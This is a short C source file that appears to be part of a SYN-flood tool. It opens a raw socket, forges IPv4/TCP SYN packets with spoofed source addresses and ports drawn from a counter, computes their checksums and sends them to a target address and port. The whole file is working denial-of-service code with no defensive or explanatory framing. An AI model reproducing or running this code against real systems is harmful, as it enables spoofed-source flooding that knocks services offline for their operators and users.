// SPDX-License-Identifier: GPL-2.0-only
/* See flood.h. */
#include "flood.h"

#include <arpa/inet.h>
#include <errno.h>
#include <error.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>

#define NETWORK 0x0a500000u /* FLOOD_NETWORK */
#define TTL 64
#define WINDOW 65535

/* The kernel fills in the length and the checksum of the IP header. */
struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* What TCP's checksum covers beside the segment, RFC 9293 3.1. */
struct pseudo_header {
	uint32_t saddr;
	uint32_t daddr;
	uint16_t protocol;
	uint16_t length;
	struct tcphdr tcp;
};

static uint16_t checksum_of(const struct syn *syn)
{
	const struct pseudo_header covered = {
		.saddr = syn->ip.saddr,
		.daddr = syn->ip.daddr,
		.protocol = htons(IPPROTO_TCP),
		.length = htons(sizeof(syn->tcp)),
		.tcp = syn->tcp,
	};
	uint16_t words[sizeof(covered) / 2];
	uint32_t sum = 0;

	memcpy(words, &covered, sizeof(words));
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

int flood_open(void)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		error(1, errno, "no raw socket");
	return fd;
}

int flood_send(int fd, struct in_addr address, in_port_t port, unsigned long nth)
{
	const struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = address };
	struct syn syn = {
		.ip = {
			.version = IPVERSION,
			.ihl = sizeof(syn.ip) / 4,
			.ttl = TTL,
			.protocol = IPPROTO_TCP,
			.saddr = htonl(NETWORK | (nth & 0xffff)),
			.daddr = address.s_addr,
		},
		.tcp = {
			.source = htons(nth >> 16),
			.dest = port,
			.seq = htonl(nth),
			.doff = sizeof(syn.tcp) / 4,
			.syn = 1,
			.window = htons(WINDOW),
		},
	};

	syn.tcp.check = checksum_of(&syn);
	return sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)&to, sizeof(to)) ==
			       sizeof(syn)
		       ? 0
		       : -1;
}
